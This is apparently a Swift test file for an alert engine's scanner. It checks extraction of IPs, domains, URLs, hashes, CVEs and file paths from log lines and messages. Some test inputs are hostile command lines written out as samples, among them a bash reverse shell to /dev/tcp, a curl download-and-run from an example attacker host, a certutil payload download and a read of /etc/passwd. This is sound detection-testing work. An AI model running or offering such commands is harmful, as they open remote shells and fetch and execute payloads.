import Model
import Testing
@testable import AlertEngine

/// What the scanner finds in a text, as `type:value`.
private func scanned(_ text: String) -> Set<String> {
    Set(TextScanner.scan(text).map { "\($0.type.rawValue):\($0.value)" })
}

@Suite struct TextScannerTests {
    /// Free text -> every artifact it holds.
    static let positives: [(String, Set<String>)] = [
        // IPs
        ("Failed password for root from 185.220.101.4 port 22 ssh2", ["ip:185.220.101.4"]),
        ("src=10.0.0.1 dst=8.8.8.8 spt=1232", ["ip:10.0.0.1", "ip:8.8.8.8"]),
        ("connect to 1.2.3.4:443 refused", ["ip:1.2.3.4"]),
        ("peer [2001:db8::1]:8443 reset", ["ip:2001:db8::1"]),
        ("from 2001:0DB8:0:0:0:0:0:1 and fe80::1%eth0", ["ip:2001:db8::1", "ip:fe80::1"]),
        ("client ::ffff:10.1.2.3 logged in", ["ip:::ffff:10.1.2.3"]),
        ("listening on ::1 port 53", ["ip:::1"]),
        ("inet 192.168.1.10/24 brd 192.168.1.255", ["ip:192.168.1.10", "ip:192.168.1.255"]),
        ("documentation ranges count: 198.51.100.23", ["ip:198.51.100.23"]),
        ("scan 10.0.0.1-10.0.0.5 done", ["ip:10.0.0.1", "ip:10.0.0.5"]),
        ("ssh root@10.0.0.5 -p 2222", ["ip:10.0.0.5"]),
        ("Connection from 203.0.113.9.", ["ip:203.0.113.9"]),
        // A dotted quad is an IP even where it could be a version: nothing else tells them apart.
        ("upgraded to 1.2.3.4 today", ["ip:1.2.3.4"]),
        // Domains
        ("DNS query for evil-domain.xyz blocked", ["domain:evil-domain.xyz"]),
        ("beacon to CDN.Example.COM and www.example.co.uk", ["domain:www.example.co.uk"]),
        ("host DC01.CORP.EXAMPLE.COM joined", ["domain:dc01.corp.example.com"]),
        ("lookup login.microsoftonline.com.", ["domain:login.microsoftonline.com"]),
        ("resolved (evil.top), [bad.site], <x.ru>", ["domain:evil.top", "domain:bad.site", "domain:x.ru"]),
        ("portal at pay.bri.co.id", ["domain:pay.bri.co.id"]),
        ("“evil.example.com” and «bad.example.net»", ["domain:evil.example.com", "domain:bad.example.net"]),
        ("see evil.example.com\u{00A0}now", ["domain:evil.example.com"]),
        // Emails: the address, not its domain again
        ("From: Jane Doe <Jane.Doe@Example.com>", ["email:jane.doe@example.com"]),
        ("reply to billing+x@pay-secure.top, mailto:a.b@example.org", ["email:billing+x@pay-secure.top", "email:a.b@example.org"]),
        // URLs, with their host
        ("click http://evil.example.com/login?id=1.", ["url:http://evil.example.com/login?id=1", "domain:evil.example.com"]),
        ("(see https://example.com/a_(b))", ["url:https://example.com/a_(b)", "domain:example.com"]),
        ("[https://example.com/x]", ["url:https://example.com/x", "domain:example.com"]),
        ("GET \"http://185.220.101.4:8080/a.exe\"", ["url:http://185.220.101.4:8080/a.exe", "ip:185.220.101.4"]),
        ("url:HTTP://Evil.Example.com/Path", ["url:http://evil.example.com/Path", "domain:evil.example.com"]),
        ("<a href=\"https://phish.example.net/o365\">", ["url:https://phish.example.net/o365", "domain:phish.example.net"]),
        ("go https://r.example.com/?u=http://evil.example.org/x", [
            "url:https://r.example.com/?u=http://evil.example.org/x", "domain:r.example.com",
            "url:http://evil.example.org/x", "domain:evil.example.org",
        ]),
        ("ftp://files.example.org/pub/tool.tar.gz", ["url:ftp://files.example.org/pub/tool.tar.gz", "domain:files.example.org"]),
        ("http://intranet/login", ["url:http://intranet/login"]),
        ("http://payload.zip/x", ["url:http://payload.zip/x", "domain:payload.zip"]),
        // Defanged
        ("hxxp://evil[.]example[.]com/x", ["url:http://evil.example.com/x", "domain:evil.example.com"]),
        ("C2 at bad(dot)site and 45[.]9[.]148[.]3", ["domain:bad.site", "ip:45.9.148.3"]),
        ("report from user[@]example[.]org", ["email:user@example.org"]),
        ("jane [at] example [dot] com wrote", ["email:jane@example.com"]),
        ("hxxps[:]//evil[.]com/a", ["url:https://evil.com/a", "domain:evil.com"]),
        ("visit evil dot example dot com now", ["domain:evil.example.com"]),
        // Hashes
        ("sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
         ["sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"]),
        ("MD5: D41D8CD98F00B204E9800998ECF8427E, SHA1: da39a3ee5e6b4b0d3255bfef95601890afd80709",
         ["md5:d41d8cd98f00b204e9800998ecf8427e", "sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709"]),
        // A GUID without dashes is 32 hex digits: syntactically an MD5.
        ("object 6f9619ff8b86d011b42d00c04fc964ff", ["md5:6f9619ff8b86d011b42d00c04fc964ff"]),
        ("https://www.virustotal.com/gui/file/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", [
            "url:https://www.virustotal.com/gui/file/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "domain:www.virustotal.com", "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ]),
        // CVEs
        ("exploits CVE-2024-3094 and cve-2021-44228.", ["cve:CVE-2024-3094", "cve:CVE-2021-44228"]),
        ("poc CVE-2023-23397_poc.py", ["cve:CVE-2023-23397", "filename:CVE-2023-23397_poc.py"]),
        // Paths and file names
        (#"Image: C:\Users\jdoe\AppData\Local\Temp\a.exe"#, [#"filepath:C:\Users\jdoe\AppData\Local\Temp\a.exe"#, "filename:a.exe"]),
        (#"Image:C:\Windows\System32\rundll32.exe"#, [#"filepath:C:\Windows\System32\rundll32.exe"#, "filename:rundll32.exe"]),
        (#"C:\Program Files (x86)\Google\Chrome\Application\chrome.exe --type=renderer"#,
         [#"filepath:C:\Program Files (x86)\Google\Chrome\Application\chrome.exe"#, "filename:chrome.exe"]),
        (#"C:\Windows\system32\cmd.exe /c whoami"#, [#"filepath:C:\Windows\system32\cmd.exe"#, "filename:cmd.exe"]),
        (#"open "C:\Users\John Smith\Invoice 2024.pdf.exe" now"#,
         [#"filepath:C:\Users\John Smith\Invoice 2024.pdf.exe"#, "filename:Invoice 2024.pdf.exe"]),
        (#"path=C:\\Users\\x\\evil.dll,"#, [#"filepath:C:\Users\x\evil.dll"#, "filename:evil.dll"]),
        (#"copy \\fileserver\share$\drop\x.ps1 here"#, [#"filepath:\\fileserver\share$\drop\x.ps1"#, "filename:x.ps1"]),
        (#"rundll32 \\evil.example.com@SSL\DavWWWRoot\x.dll,Start"#,
         [#"filepath:\\evil.example.com@SSL\DavWWWRoot\x.dll"#, "filename:x.dll", "domain:evil.example.com"]),
        (#"net use \\10.1.2.3\c$"#, [#"filepath:\\10.1.2.3\c$"#, "ip:10.1.2.3"]),
        (#"pipe \\.\pipe\msagent_12 opened"#, [#"filepath:\\.\pipe\msagent_12"#]),
        (#"%APPDATA%\Microsoft\upd.vbs"#, [#"filepath:%APPDATA%\Microsoft\upd.vbs"#, "filename:upd.vbs"]),
        (#"ads C:\x\a.exe:Zone.Identifier"#, [#"filepath:C:\x\a.exe"#, "filename:a.exe"]),
        ("curl -o /tmp/x.sh http://evil.example.com/x.sh; sh /tmp/x.sh", [
            "filepath:/tmp/x.sh", "filename:x.sh", "url:http://evil.example.com/x.sh", "domain:evil.example.com",
        ]),
        ("/usr/bin/curl", ["filepath:/usr/bin/curl"]),
        ("cat '/etc/passwd'", ["filepath:/etc/passwd"]),
        ("PATH=/usr/local/bin:/usr/bin", ["filepath:/usr/local/bin", "filepath:/usr/bin"]),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ["filepath:/dev/tcp/203.0.113.9/4444", "ip:203.0.113.9"]),
        ("/home/jdoe/.ssh/authorized_keys modified", ["filepath:/home/jdoe/.ssh/authorized_keys"]),
        ("attachment invoice.docx and payload.zip, run.bat", ["filename:invoice.docx", "filename:payload.zip", "filename:run.bat"]),
        ("svchost.exe spawned powershell.exe -enc", ["filename:svchost.exe", "filename:powershell.exe"]),
        ("wrote config.yaml and install.sh and libevil.so", ["filename:config.yaml", "filename:install.sh", "filename:libevil.so"]),
        // Mixed, as a mail body or a command line carries them
        ("certutil -urlcache -f hxxp://45.9.148[.]3/p.exe C:\\Users\\Public\\p.exe", [
            "url:http://45.9.148.3/p.exe", "ip:45.9.148.3", #"filepath:C:\Users\Public\p.exe"#, "filename:p.exe",
        ]),
        ("CEF:0|Vendor|IDS|1.0|100|worm stopped|10|src=10.0.0.1 dst=2.1.2.2 dhost=evil.example.net fname=evil.exe", [
            "ip:10.0.0.1", "ip:2.1.2.2", "domain:evil.example.net", "filename:evil.exe",
        ]),
    ]

    @Test(arguments: positives) func finds(_ text: String, _ expected: Set<String>) {
        #expect(scanned(text) == expected)
    }

    /// Text that looks like artifacts and is not.
    static let negatives: [String] = [
        // Versions and numbers
        "version v1.2.3.4 released", "OID 1.2.3.4.5 and 1.3.6.1.4.1.311", "bad octet 10.0.0.256", "leading 010.1.1.1",
        "on 2024.11.29 at 12.5.1", "pi is 3.14159", "build v2.10.1", "Version: 1.2.3.4", "firmware 5.0.0.1",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36",
        "OpenSSL/1.1.1k", "HTTP/1.1 200 OK",
        "version 1.2.3.4", "build=10.0.0.1", "rev 2.0.0.1",
        // Not peers: bind-all, netmasks, wildcard masks, broadcast
        "bind 0.0.0.0:80 and [::]:80", "netmask 255.255.255.0 wildcard 0.0.0.255 bcast 255.255.255.255",
        // Kerberos principals
        "ticket krbtgt/CORP.EXAMPLE.COM@CORP.EXAMPLE.COM", "spn HTTP/web01.example.com@EXAMPLE.COM",
        // Times
        "2026-11-29T10:00:00Z", "at 10:22:33 and 10:22:33.123", "2026-11-29 10:00:00,123 INFO started", "took 500.ms", "10.in of rain at 3.pm",
        // File names and code that end like TLDs, or like nothing
        "e.g. i.e. etc. U.S. a.m.", "Dr.Smith", "System.IO.File and Logger.Info", "$env.ComputerName and $wc.name",
        "document.write(x) and window.open(u)", "user.name=jane host.name=pc1 user.email=x event.id=4624",
        "foo.bar baz", "element.style", "com.google.android.gms", "node.java", "sentence.Next",
        // Networks, not hosts
        "route 10.0.0.0/8 via 2001:db8::/32",
        // Not IPv6
        "std::vector<int> and Foo::Bar::Baz", "a::b and dead::beef", "mac 00:1a:2b:3c:4d:5e", "ab:cd:ef:01:23:45:67:89",
        "section :: title",
        // Not hashes: wrong length, inside identifiers, one digit repeated
        "d41d8cd98f00b204e9800998ecf8427", "xd41d8cd98f00b204e9800998ecf8427e", "0xd41d8cd98f00b204e9800998ecf8427e",
        "00000000000000000000000000000000", "id 550e8400-e29b-41d4-a716-446655440000",
        // Not CVEs
        "CVE-24-1234", "CVE-2024-123", "XCVE-2024-3094",
        // Not paths
        "and/or TCP/IP N/A 1/2", "GET /api/v1/users HTTP/1.1", "/wp-admin/admin-ajax.php", "/tmp", "/tmp/.", "C:\\",
        "ratio a:/b", "./run", "~/x", "assets/app.js",
        // Not URLs
        "http:// nothing", "http://%s/x", "https://1.2.3.256/",
        // Not emails
        "jane@corp", "@handle", "user@host", "a@b",
        // Prose
        "the dot com era", "meet me (at) noon.", "click the red dot then wait", "",
        "Logon failed for account jdoe: unknown user name or bad password.",
    ]

    @Test(arguments: negatives) func findsNothingIn(_ text: String) {
        #expect(scanned(text) == [])
    }

    @Test func reportsEachArtifactOnceInOrderAsRelated() {
        let found = TextScanner.scan("to 1.2.3.4 from evil.example.com, again 1.2.3.4 and EVIL.example.com")
        #expect(found == [
            ArtifactMention(.ip, "1.2.3.4", role: "related"),
            ArtifactMention(.domain, "evil.example.com", role: "related"),
        ])
    }

    @Test func scansLongTextEndToEnd() {
        let body = String(repeating: "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ", count: 200)
            + "Reset your password at hxxps://login-micros0ft[.]com/reset now. " + body64
        let found = scanned(body)
        #expect(found == ["url:https://login-micros0ft.com/reset", "domain:login-micros0ft.com"])
    }

    /// Every prefix of every sample ends an artifact mid-way: the scanner's look-aheads must
    /// stop at the end of the text, and what it finds must still parse.
    @Test func survivesTextCutAnywhere() {
        for (text, _) in Self.positives {
            let bytes = Array(text.utf8)
            for cut in 0...bytes.count {
                for m in TextScanner.scan(String(decoding: bytes[..<cut], as: UTF8.self)) {
                    #expect(!m.value.isEmpty)
                    if m.type == .ip { #expect(IPAddress(m.value)?.text == m.value) }
                    if m.type == .domain { #expect(DomainName.canonical(m.value) == m.value) }
                    if m.type == .email { #expect(EmailAddress.canonical(m.value) == m.value) }
                    if m.type == .url { #expect(URLText.canonical(m.value) == m.value) }
                }
            }
        }
    }

    /// Random runs of the pieces artifacts are made of and split by.
    @Test func survivesNoise() {
        let pieces = [
            "a", "X", "h", "p", "t", "0", "9", "f", ".", ":", "::", "-", "_", "@", "+", "/", "\\", "\\\\", "%", "%A%\\",
            "[", "]", "(", ")", "{", "}", "<", ">", "\"", "'", " ", "\t", "\n", "$", "=", ",", ";", "|", "http://", "hxxps",
            "[.]", "(dot)", " dot ", "[at]", "C:\\", "C:/", "/tmp/", "/usr", "1.2.3.4", "10.0.0.0/8", "fe80::1%", "::ffff:",
            "cve-2024-", "1234", "evil", ".com", ".exe", "ab", "d41d8cd98f00b204e9800998ecf8427e", "\u{A0}", "“", "é", "\u{FEFF}",
        ]
        var seed: UInt64 = 0x9E37_79B9_7F4A_7C15
        func next() -> Int {
            seed = seed &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int(seed >> 33)
        }
        for _ in 0..<5000 {
            let text = (0..<(next() % 24)).map { _ in pieces[next() % pieces.count] }.joined()
            for m in TextScanner.scan(text) {
                #expect(!m.value.isEmpty)
                if m.type == .ip { #expect(IPAddress(m.value)?.text == m.value) }
                if m.type == .url { #expect(URLText.canonical(m.value) == m.value) }
            }
        }
    }

    /// A base64 blob such as `powershell -enc` carries: no artifacts in it.
    private var body64: String {
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA+/=="
    }
}

@Suite struct ArtifactExtractorTests {
    static let validated: [(String, ArtifactType, String?)] = [
        (" 185.220.101.4 ", .ip, "185.220.101.4"),
        ("2001:DB8::1", .ip, "2001:db8::1"),
        ("1.2.3[.]4", .ip, "1.2.3.4"),
        ("pc1.corp.local", .ip, nil),
        ("-", .ip, nil),
        ("Evil.Example.COM.", .domain, "evil.example.com"),
        ("evil[.]example[.]com", .domain, "evil.example.com"),
        // A field that says "domain" is trusted for internal zones; free text is not (see TextScanner tests).
        ("dc01.corp.local", .domain, "dc01.corp.local"), ("localhost", .domain, nil), ("10.1.2.3", .domain, nil),
        ("Jane.Doe@Example.com", .email, "jane.doe@example.com"),
        ("jane[@]example[.]com", .email, "jane@example.com"),
        ("N/A", .email, nil),
        ("hxxps://Evil[.]Example.com/Login", .url, "https://evil.example.com/Login"),
        ("/index.php?id=1", .url, nil),
        ("D41D8CD98F00B204E9800998ECF8427E", .md5, "d41d8cd98f00b204e9800998ecf8427e"),
        ("00000000000000000000000000000000", .md5, nil),
        ("da39a3ee5e6b4b0d3255bfef95601890afd80709", .sha256, nil),
        (" invoice.pdf.exe\n", .filename, "invoice.pdf.exe"),
        (#"  C:\Users\x\a.exe "#, .filepath, #"C:\Users\x\a.exe"#),
        ("cve-2024-3094", .cve, "CVE-2024-3094"),
        ("GHSA-8r3f-844c-mc37", .cve, nil),
        ("JDoe", .user, "jdoe"),
        ("WS01", .host, "ws01"),
        ("Mozilla/5.0 (X11)", .userAgent, "Mozilla/5.0 (X11)"),
    ]

    @Test(arguments: validated) func validates(_ raw: String, _ type: ArtifactType, _ expected: String?) {
        #expect(ArtifactExtractor.validate(raw, as: type) == expected)
    }

    @Test func combinesFieldsAndTextWithoutRepeatingFieldArtifacts() {
        let signal = Normalized(
            time: Timestamp(ms: 0), source: "test", sourceRef: nil, kind: .oktaEvent, severity: .low, title: "t",
            fields: [
                "source.ip": .string("185.220.101.4"),
                "url.full": .string("hxxp://evil[.]example[.]com/x"),
                "file.hash.md5": .string("00000000000000000000000000000000"),
                "process.executable": .string(#"C:\Windows\System32\rundll32.exe"#),
            ],
            raw: "{}",
            texts: ["login from 185.220.101.4 then http://evil.example.com/x; also 8.8.8.8 and CVE-2024-3094"]
        )
        let found = ArtifactExtractor().artifacts(of: signal).map { "\($0.type.rawValue):\($0.value):\($0.role)" }
        #expect(found == [
            #"filepath:C:\Windows\System32\rundll32.exe:process"#,
            "ip:185.220.101.4:src",
            "url:http://evil.example.com/x:url",
            // From the text: what the fields did not already name.
            "domain:evil.example.com:related",
            "ip:8.8.8.8:related",
            "cve:CVE-2024-3094:related",
        ])
    }
}
